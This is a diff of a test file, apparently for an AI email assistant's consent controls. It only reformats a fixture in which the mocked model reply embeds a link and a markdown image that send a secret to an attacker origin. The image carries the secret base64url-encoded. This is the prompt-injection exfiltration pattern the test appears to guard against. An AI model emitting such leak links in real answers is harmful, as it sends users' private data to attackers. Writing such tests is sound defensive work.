@@ -134,9 +134,12 @@ describe('data-flow-aware consent', () => {
     const linkLeak = `${attacker.origin}/l?d=${encodeURIComponent(secret)}`;
     const imageLeak = `${attacker.origin}/p.png?d=${Buffer.from(secret).toString('base64url')}`;
     s.llm.enqueue(
-      text(`The e-mail gives account details. [Read more](${linkLeak})\n\n![status](${imageLeak})\n\n[Notes help](${docs})`, {
-        chunkSize: 20,
-      }),
+      text(
+        `The e-mail gives account details. [Read more](${linkLeak})\n\n![status](${imageLeak})\n\n[Notes help](${docs})`,
+        {
+          chunkSize: 20,
+        },
+      ),
     );
     await ask(s.panel, 'What does this e-mail say?');
     const answer = s.panel.getByTestId('assistant-message').last();
